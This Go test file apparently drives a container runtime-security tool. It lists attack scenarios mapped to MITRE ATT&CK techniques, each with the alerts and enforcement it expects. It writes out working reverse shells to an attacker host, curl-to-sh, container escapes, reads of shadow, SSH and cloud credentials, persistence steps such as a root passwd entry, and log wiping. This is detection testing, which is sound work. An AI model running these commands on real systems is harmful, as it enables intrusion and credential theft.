//go:build linux && attacks

package attacks_test

// What enforcement makes of an attack.
const (
	toldOnly = ""       // it is told; no part of it is forbidden by default
	denied   = "denied" // it has no effect
	killed   = "killed" // the process is ended after the fact, by a response
)

// attack is something that an attacker does in a container.
type attack struct {
	name      string
	technique string   // of MITRE ATT&CK
	options   []string // of docker run
	words     []string // the command; none for bash -c script
	script    string   // that has its EFFECT when it works, on its output or as the file /effect
	told      []string // rules or kinds of alerts; all of them
	refused   bool     // the container's own confinement holds it up: an attempt
	enforced  string   // what enforcement makes of it
}

var (
	device     = append([]string{"--device-cgroup-rule=b *:* rwm", "-v", "/proc/sys/kernel:/kernel"}, admin...)
	admin      = []string{"--cap-add=SYS_ADMIN", "--security-opt=seccomp=unconfined", "--security-opt=apparmor=unconfined"}
	unconfined = []string{"--security-opt=seccomp=unconfined", "--security-opt=apparmor=unconfined"}
)

const ok = " && echo EFFECT"

func attacks() []attack {
	var all []attack
	for _, list := range [][]attack{shells(), miners(), fileless(), escapes(), credentials(), persistence(), evasion()} {
		all = append(all, list...)
	}
	return all
}

const peer = attacker + ":4444"

func shells() []attack {
	return []attack{
		{name: "bash-tcp", technique: "T1059.004", script: `bash -i > /dev/tcp/` + attacker + `/4444 0<&1 2>&1`, told: []string{"reverse-shell"}, enforced: killed},
		{name: "python-dup2", technique: "T1059.006", script: `python3 -c 'import socket,os,subprocess
s=socket.socket();s.connect(("` + attacker + `",4444))
for i in 0,1,2: os.dup2(s.fileno(),i)
subprocess.call(["/bin/sh"])'`, told: []string{"reverse-shell", "reverse-shell-command", "reverse-shell-redirect"}, enforced: killed},
		{name: "python-pty", technique: "T1059.006", script: `python3 -c 'import socket,os,pty
s=socket.socket();s.connect(("` + attacker + `",4444))
for i in 0,1,2: os.dup2(s.fileno(),i)
pty.spawn("/bin/sh")'`, told: []string{"reverse-shell-command", "reverse-shell-redirect"}, enforced: killed},
		{name: "perl-dup", technique: "T1059", script: `perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("` + attacker + `")));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh")'`, told: []string{"reverse-shell"}, enforced: killed},
		{name: "nc-e", technique: "T1059.004", script: `nc -e /bin/sh ` + attacker + ` 4444`, told: []string{"reverse-shell-command", "reverse-shell"}, enforced: killed},
		{name: "nc-pipes", technique: "T1059.004", script: `sh -c "mkfifo /tmp/f; sh < /tmp/f 2>&1 | nc ` + attacker + ` 4444 > /tmp/f"`, told: []string{"reverse-shell-command"}, enforced: killed},
		{name: "socat-exec", technique: "T1059.004", script: `socat TCP:` + peer + ` EXEC:/bin/sh`, told: []string{"reverse-shell-command"}, enforced: killed},
		{name: "relay", technique: "T1059.004", script: `actor relay ` + peer, told: []string{"relayed-shell"}, enforced: killed},
		{name: "download-and-run", technique: "T1105", script: `bash -c "curl -s http://` + metadata + `/ | sh"; echo EFFECT`, told: []string{"download-and-run"}},
		{name: "decode-and-run", technique: "T1140", script: `bash -c "echo ZWNobyBFRkZFQ1QK | base64 -d | sh"`, told: []string{"decode-and-run"}},
	}
}

func miners() []attack {
	return []attack{
		{name: "miner-process", technique: "T1496", script: `xmrig sleep -o stratum+tcp://pool.example:3333`, told: []string{"miner-process"}, refused: true, enforced: killed},
		{name: "miner-name", technique: "T1496", script: `actor resolve udp ` + attacker + `:53 pool.minexmr.com`, told: []string{"miner-pool-name"}},
		{name: "miner-name-tcp", technique: "T1496", script: `actor resolve tcp ` + attacker + `:53 pool.minexmr.com`, told: []string{"miner-pool-name"}},
		{name: "miner-port", technique: "T1496", script: `cp /usr/local/bin/actor /tmp/m; /tmp/m connect tcp ` + attacker + `:3333`, told: []string{"drift", "miner-pool-port", "network-drift"}, enforced: denied},
		{name: "dns-tunnel", technique: "T1071.004", script: `n=$(printf a%.0s {1..60}); actor resolve udp ` + attacker + `:53 $n.$n.$n.example.org`, told: []string{"dns-tunnel"}},
	}
}

func fileless() []attack {
	return []attack{
		{name: "drop-and-run", technique: "T1105", script: `cp /usr/local/bin/actor /tmp/x; /tmp/x touch /effect`, told: []string{"drift"}, enforced: denied},
		{name: "memfd", technique: "T1620", script: `actor memfd /effect`, told: []string{"drift", "fileless-memfd"}, enforced: denied},
		{name: "unlinked", technique: "T1070.004", script: `actor unlinked /effect`, told: []string{"drift", "fileless-deleted"}, enforced: denied},
		{name: "shared-memory", technique: "T1564", options: []string{"--tmpfs", "/dev/shm:exec"}, script: `cp /usr/local/bin/actor /dev/shm/x; /dev/shm/x touch /effect`, told: []string{"drift", "execution-from-shared-memory"}, enforced: denied},
		{name: "loader", technique: "T1218", script: `cp /usr/bin/touch /tmp/x; /lib64/ld-linux-x86-64.so.2 /tmp/x /effect`, told: []string{"drift"}, enforced: denied},
		{name: "preload", technique: "T1574.006", script: `cp /lib/x86_64-linux-gnu/libc.so.6 /tmp/x.so; LD_PRELOAD=/tmp/x.so touch /effect`, told: []string{"drift", "preload-environment"}, enforced: denied},
		{name: "script", technique: "T1059.004", script: `echo "sleep 20; touch /effect" > /tmp/s.sh; sh /tmp/s.sh`, told: []string{"drift"}, enforced: killed},
		{name: "replaced-binary", technique: "T1554", script: `cat /usr/local/bin/actor > /usr/bin/ls; ls touch /effect`, told: []string{"drift", "binary-changed"}, enforced: denied},
		{name: "namespaces", technique: "T1611", options: admin, script: `unshare -m -p -f -n -u -i bash -c "mount -t tmpfs x /mnt; cp /usr/local/bin/actor /mnt/x; /mnt/x touch /effect"`, told: []string{"drift", "escape-mount"}, enforced: denied},
	}
}

func escapes() []attack {
	return []attack{
		{name: "release-agent", technique: "T1611", options: admin, script: `mkdir /tmp/cg && mount -t cgroup -o none,name=sekisho-attack x /tmp/cg && echo /x > /tmp/cg/release_agent && echo EFFECT; umount /tmp/cg`, told: []string{"escape-release-agent", "escape-mount"}},
		{name: "core-pattern", technique: "T1611", options: device, script: `v=$(cat /proc/sys/kernel/core_pattern); mount -t proc p /mnt; echo "$v" > /mnt/sys/kernel/core_pattern` + ok, told: []string{"escape-kernel-helper"}},
		{name: "core-pattern-attempt", technique: "T1611", script: `echo '|/x' > /proc/sys/kernel/core_pattern`, told: []string{"escape-kernel-helper"}, refused: true},
		{name: "docker-socket", technique: "T1610", options: []string{"-v", "SOCKET:/var/run/docker.sock"}, script: `curl -s --unix-socket /var/run/docker.sock http://x/version` + ok, told: []string{"escape-runtime-socket"}},
		{name: "nsenter", technique: "T1611", options: append([]string{"--pid=host", "--cap-add=SYS_PTRACE"}, admin...), script: `unshare -u sleep 20 & sleep 1; nsenter -t $! -u true` + ok, told: []string{"escape-namespace"}},
		{name: "setns", technique: "T1611", options: append([]string{"--pid=host", "--cap-add=SYS_PTRACE"}, admin...), script: `unshare -u sleep 20 & sleep 1; actor setns /proc/$!/ns/uts`, told: []string{"escape-namespace"}},
		{name: "user-namespace", technique: "T1611", options: unconfined, script: `unshare -U -r true` + ok, told: []string{"escape-user-namespace"}},
		{name: "mount", technique: "T1611", options: admin, script: `mount -t tmpfs x /mnt` + ok, told: []string{"escape-mount"}},
		{name: "new-mount", technique: "T1611", options: admin, script: `actor fsmount /mnt`, told: []string{"escape-mount"}},
		{name: "host-root", technique: "T1611", options: append([]string{"--pid=host", "--cap-add=SYS_PTRACE"}, admin...), script: `cat /proc/HOSTPID/root/etc/passwd > /dev/null` + ok, told: []string{"escape-host-root"}},
		{name: "host-disk", technique: "T1006", options: device, script: `mknod /dev/sdz b 7 0; head -c 16 /dev/sdz` + ok, told: []string{"escape-device"}},
		{name: "host-disk-attempt", technique: "T1006", script: `mknod /dev/sdz b 8 0; cat /dev/sdz`, told: []string{"escape-device"}, refused: true},
		{name: "chroot", technique: "T1611", options: []string{"-v", "/:/host:ro"}, script: `chroot /host true` + ok, told: []string{"chroot-host"}},
		{name: "module", technique: "T1547.006", script: `insmod /x.ko`, told: []string{"kernel-module"}, refused: true},
		{name: "file-handle", technique: "T1611", options: append([]string{"--cap-add=DAC_READ_SEARCH", "-v", "/etc/hostname:/mnt/h:ro"}, unconfined...), script: `actor handle /mnt/h`, told: []string{"escape-file-handle"}},
		{name: "bpf", technique: "T1014", options: admin, script: `actor bpf`, told: []string{"bpf-load"}},
		{name: "userfaultfd", technique: "T1068", options: append([]string{"--user", "1000"}, unconfined...), script: `actor userfaultfd`, told: []string{"page-fault-handler"}},
		{name: "packet-socket", technique: "T1040", script: `actor packet`, told: []string{"packet-socket"}},
		{name: "kubectl", technique: "T1609", script: `kubectl get pods; echo EFFECT`, told: []string{"container-client"}},
		{name: "scanner", technique: "T1046", script: `for p in {1..40}; do echo > /dev/tcp/` + attacker + `/$p; done 2>/dev/null; echo EFFECT`, told: []string{"network-scan"}},
	}
}

func credentials() []attack {
	return []attack{
		{name: "metadata", technique: "T1552.005", script: `curl -s http://` + metadata + `/latest/meta-data/` + ok, told: []string{"metadata-service"}},
		{name: "metadata-uring", technique: "T1552.005", options: unconfined, script: `actor uring-connect ` + metadata + `:80`, told: []string{"metadata-service"}},
		{name: "service-account", technique: "T1528", script: `cat /run/secrets/kubernetes.io/serviceaccount/token` + ok, told: []string{"credential-service-account"}},
		{name: "ssh-key", technique: "T1552.004", script: `cat /root/.ssh/id_rsa` + ok, told: []string{"credential-ssh-key"}},
		{name: "shadow", technique: "T1003.008", script: `cat /etc/shadow` + ok, told: []string{"credential-shadow"}},
		{name: "shadow-link", technique: "T1003.008", script: `ln -s /etc/shadow /tmp/notes; head /tmp/notes` + ok, told: []string{"credential-shadow"}},
		{name: "shadow-root-link", technique: "T1003.008", script: `cat /proc/self/root/etc/shadow` + ok, told: []string{"credential-shadow"}},
		{name: "shadow-race", technique: "T1003.008", script: `actor swap /etc/hosts /etc/shadow`, told: []string{"credential-shadow"}},
		{name: "shadow-32-bit", technique: "T1562.001", script: `actor32 read /etc/shadow`, told: []string{"compat-calls"}},
		{name: "shadow-legacy-calls", technique: "T1562.001", script: `actor legacy /etc/shadow`, told: []string{"compat-calls"}},
		{name: "cloud", technique: "T1552.001", script: `cat /root/.aws/credentials` + ok, told: []string{"credential-cloud"}},
		{name: "environment", technique: "T1552", script: `sleep 5 & cat /proc/$!/environ | wc -c` + ok, told: []string{"credential-environment"}},
		{name: "memory", technique: "T1003.007", options: []string{"--cap-add=SYS_PTRACE"}, script: `sleep 5 & head -c 1 /proc/$!/mem; echo EFFECT`, told: []string{"credential-memory"}},
		{name: "search", technique: "T1083", script: `find /root -name id_rsa` + ok, told: []string{"credential-search"}},
		{name: "ptrace", technique: "T1055.008", options: []string{"--cap-add=SYS_PTRACE"}, script: `actor ptrace`, told: []string{"ptrace-injection"}},
		{name: "vm-write", technique: "T1055", options: []string{"--cap-add=SYS_PTRACE"}, script: `actor vmwrite`, told: []string{"ptrace-injection"}},
	}
}

func persistence() []attack {
	return []attack{
		{name: "package-manager", technique: "T1072", script: `apt-get install -y /debs/*.deb > /dev/null` + ok, told: []string{"package-manager"}},
		{name: "cron", technique: "T1053.003", script: `echo "* * * * * root true" > /etc/cron.d/x` + ok, told: []string{"scheduled-job"}},
		{name: "authorized-keys", technique: "T1098.004", script: `echo key >> /root/.ssh/authorized_keys` + ok, told: []string{"ssh-authorized-key"}},
		{name: "profile", technique: "T1546.004", script: `echo true >> /root/.bashrc` + ok, told: []string{"shell-profile"}},
		{name: "ld-so-preload", technique: "T1574.006", script: `touch /etc/ld.so.preload` + ok, told: []string{"preload-file"}},
		{name: "account", technique: "T1136.001", script: `echo evil:x:0:0::/:/bin/sh >> /etc/passwd` + ok, told: []string{"account-change"}},
		{name: "setuid", technique: "T1548.001", script: `cp /bin/true /tmp/s; chmod 4755 /tmp/s` + ok, told: []string{"setuid-bit"}},
		{name: "setuid-new-call", technique: "T1548.001", options: unconfined, script: `touch /tmp/s; actor fchmodat2 /tmp/s`, told: []string{"setuid-bit"}},
		{name: "binary-directory", technique: "T1554", script: `cp /bin/true /usr/bin/update` + ok, told: []string{"binary-changed"}},
		{name: "immutable", technique: "T1222.002", script: `touch /tmp/i; chattr +i /tmp/i`, told: []string{"immutable-file"}, refused: true},
	}
}

func evasion() []attack {
	return []attack{
		{name: "log-truncated", technique: "T1070.002", script: `: > /var/log/app.log` + ok, told: []string{"log-tampering"}},
		{name: "log-removed", technique: "T1070.002", script: `rm /var/log/app.log` + ok, told: []string{"log-tampering"}},
		{name: "log-shredded", technique: "T1070.002", script: `shred -u /var/log/app.log` + ok, told: []string{"log-tampering"}},
		{name: "history-removed", technique: "T1070.003", script: `rm /root/.bash_history` + ok, told: []string{"history-tampering"}},
		{name: "history-linked", technique: "T1070.003", script: `ln -sf /dev/null /root/.bash_history` + ok, told: []string{"history-tampering"}},
		{name: "masquerade", technique: "T1036.004", script: `bash -c "exec -a [kworker/0:1] sleep 0.1"` + ok, told: []string{"masquerade"}},
		{name: "name-tricks", technique: "T1036", words: []string{"actor", "named", "/etc/shadow"}, told: []string{"credential-shadow"}, refused: true},
		{name: "megabytes", technique: "T1036", words: []string{"actor", "args", "/etc/shadow"}, told: []string{"credential-shadow"}, refused: true},
		{name: "uring-open-dropped", technique: "T1562", options: unconfined, script: `cp /usr/local/bin/actor /tmp/u; /tmp/u uring-open /etc/shadow`, told: []string{"drift", "io-uring-drift"}, enforced: denied},
		{name: "exits", technique: "T1036", script: `actor exits 300; cat /etc/shadow` + ok, told: []string{"credential-shadow"}},
	}
}
